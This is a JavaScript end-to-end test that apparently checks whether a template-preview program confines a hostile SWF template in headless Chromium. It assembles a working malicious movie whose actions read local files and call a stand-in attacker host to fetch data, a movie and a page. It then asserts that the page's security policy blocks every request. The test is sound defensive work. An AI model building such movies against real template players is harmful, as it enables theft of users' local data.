// A template made as an attacker would, added to a copy of the demo installation and played
// in headless Chromium by the interactive program: as a thumbnail of the built-in skin, in
// the preview and in the fullscreen view. Its first frame loads the interface movie's polls
// ("../skin/poll", beside the page's working folder), a file of the working folder
// ("skin.txt") and an address of another host, loads a movie from that host into a level,
// and opens a page of it. Another host here is an HTTP listener on another loopback port:
// it must hear nothing, and nothing of the program's may answer the template. The demo's
// own templates go on working beside it.
//   node tests/page/hostile_template_e2e.mjs --tarvenox BIN --demo BUILD/demo --work DIR
// Exits with 77 (skipped) when Chromium or the npm packages are missing outside CI.
import assert from "node:assert/strict";
import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join, resolve } from "node:path";
import { parseArgs } from "node:util";
import { exitUnlessBrowser } from "../player/harness.mjs";
import { openTab, startProgram, stepShots } from "./session.mjs";

const { values: options } = parseArgs({
  options: { tarvenox: { type: "string" }, demo: { type: "string" }, media: { type: "string" }, work: { type: "string" } },
});
exitUnlessBrowser("hostile template check");

// -- a movie of SWF version 6: 200 x 150 pixels, one frame with the actions --

const latin1 = (text) => [...Buffer.from(text + "\0", "latin1")];
const u16 = (value) => [value & 0xff, value >> 8];

function tag(code, body) {
  // Long form always: a 32-bit length after the code.
  return [...u16((code << 6) | 0x3f), ...u16(body.length & 0xffff), ...u16(body.length >>> 16), ...body];
}

const push = (...texts) => {
  const payload = texts.flatMap((text) => [0, ...latin1(text)]);  // type 0: a string
  return [0x96, ...u16(payload.length), ...payload];
};
// loadVariables(url, target): GetURL2 with "load variables" and "target is a clip".
const loadVariables = (url) => [...push(url, "_root"), 0x9a, ...u16(1), 0xc0];
// getURL(url, window): GetURL with both strings inline.
const getUrl = (url, window) => {
  const payload = [...latin1(url), ...latin1(window)];
  return [0x83, ...u16(payload.length), ...payload];
};

function hostileMovie(outside) {
  const actions = [
    ...loadVariables("../skin/poll?from=hostile"),
    ...loadVariables("skin.txt?from=hostile"),
    ...loadVariables(`${outside}/variables?from=hostile`),
    ...getUrl(`${outside}/movie.swf?from=hostile`, "_level1"),
    ...getUrl(`${outside}/page?from=hostile`, "_blank"),
    0,
  ];
  // The stage, a RECT of 4 fields of 15 bits: 0, 4000, 0, 3000 twips.
  const bits = [[5, 15], [15, 0], [15, 4000], [15, 0], [15, 3000]].map(([width, value]) => value.toString(2).padStart(width, "0")).join("");
  const rect = [];
  for (let i = 0; i < bits.length; i += 8) rect.push(parseInt(bits.slice(i, i + 8).padEnd(8, "0"), 2));
  const body = [
    ...rect, ...u16(12 << 8), ...u16(1),
    ...tag(9, [0x33, 0x66, 0x99]),  // SetBackgroundColor
    ...tag(12, actions),            // DoAction
    ...tag(1, []),                  // ShowFrame
    0, 0,                           // End
  ];
  return Buffer.from([...Buffer.from("FWS"), 6, ...u16((body.length + 8) & 0xffff), ...u16((body.length + 8) >>> 16), ...body]);
}

// -- another host, which must hear nothing --

const heard = [];
const outsideHost = createServer((request, answer) => {
  heard.push(`${request.method} ${request.url}`);
  answer.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" });
  answer.end("stolen=1");
});
await new Promise((listening) => outsideHost.listen(0, "127.0.0.1", listening));
const outside = `http://127.0.0.1:${outsideHost.address().port}`;

// -- the installation: the demo and the hostile template in its list --

const tarvenox = resolve(options.tarvenox);
const work = resolve(options.work);
const installation = join(work, "installation");
const shots = join(work, "screenshots");
const temporary = join(work, "tmp");
rmSync(work, { recursive: true, force: true });
for (const folder of [shots, temporary]) mkdirSync(folder, { recursive: true });
cpSync(join(resolve(options.demo), "loose"), installation, { recursive: true });
writeFileSync(join(installation, "swf", "hostile.swf"), hostileMovie(outside));
const lists = join(installation, "selectLists.txt");
writeFileSync(lists, readFileSync(lists, "latin1").replace(/\r?\n?$/, "\r\nFree gift\tmovies\thostile\r\n"), "latin1");

const { program, exited, address } = await startProgram(tarvenox, installation, { HOME: work, TMPDIR: temporary });
const { browser, tab } = await openTab();
const shot = stepShots(tab, shots);
// Every request of the template (its URLs are marked), the answers it could read, and
// what the page's policy blocked.
const answered = [];
const asked = [];
tab.on("request", (request) => {
  if (request.url().includes("from=hostile")) asked.push(request.url());
});
tab.on("response", (response) => {
  if (response.url().includes("from=hostile")) answered.push(`${response.status()} ${response.url()}`);
});
const blocked = [];
tab.on("console", (message) => {
  if (/Content Security Policy/.test(message.text())) blocked.push(message.text());
});

const playing = (player) => tab.waitForFunction((name) => document.querySelector(`[data-player="${name}"]`).dataset.state === "playing",
  player, { timeout: 20000 });

try {
  await tab.goto(address);
  await tab.locator('button.template[data-file="hostile"] .thumb-movie.shown').waitFor({ timeout: 20000 });
  await shot("thumbnails");

  await tab.locator('button.template[data-file="hostile"]').click();
  await playing("viewer");
  await tab.waitForTimeout(1500);
  await shot("hostile-previewed");

  await tab.getByRole("button", { name: "Fullscreen" }).click();
  await playing("fullscreenMovie");
  await tab.waitForTimeout(1500);
  await shot("hostile-fullscreen");
  await tab.keyboard.press("Escape");
  await tab.locator("#fullscreen").waitFor({ state: "hidden" });

  // The demo's own template still plays beside it.
  await tab.locator('button.template[data-file="greeting"]').click();
  await tab.locator(".field.kind-text input").first().waitFor();
  await playing("viewer");
  await shot("greeting-previewed");

  // It ran (as thumbnail, preview and fullscreen movie) and asked: its own server for the
  // addresses beside it, the other host for the rest.
  assert.ok(asked.some((url) => url.includes("skin/poll")) && asked.some((url) => url.includes("skin.txt")), `the template ran: ${asked}`);
  const page = new URL(address).origin;
  assert.deepEqual(asked.filter((url) => url.startsWith(page)), [], "no request of the template reaches the page's server");
  assert.deepEqual(answered.filter((line) => line.startsWith("200 ")), [], "nothing answers the template");
  assert.deepEqual(heard, [], "the other host hears nothing of the template");
  assert.ok(blocked.some((line) => line.includes(outside)), `the page's policy blocks the other host (${blocked.length} blocked)`);

  await tab.getByRole("button", { name: "Quit" }).click();
  const end = await Promise.race([exited, new Promise((done) => setTimeout(() => done(null), 10000))]);
  assert.deepEqual(end, { code: 0, signal: null }, "the program ends by itself after Quit");
  assert.deepEqual(readdirSync(temporary).filter((name) => name.startsWith("tvtmpdir.")), [], "the working folder is gone");
  console.log(`hostile template check: passed (${asked.length} requests of the template refused); screenshots in ${shots}`);
} catch (error) {
  await shot("failed").catch(() => {});
  console.error(`asked: ${JSON.stringify(asked, null, 1)}\nanswered: ${JSON.stringify(answered, null, 1)}\nheard: ${JSON.stringify(heard)}`);
  throw error;
} finally {
  await browser.close();
  program.kill();
  outsideHost.close();
}
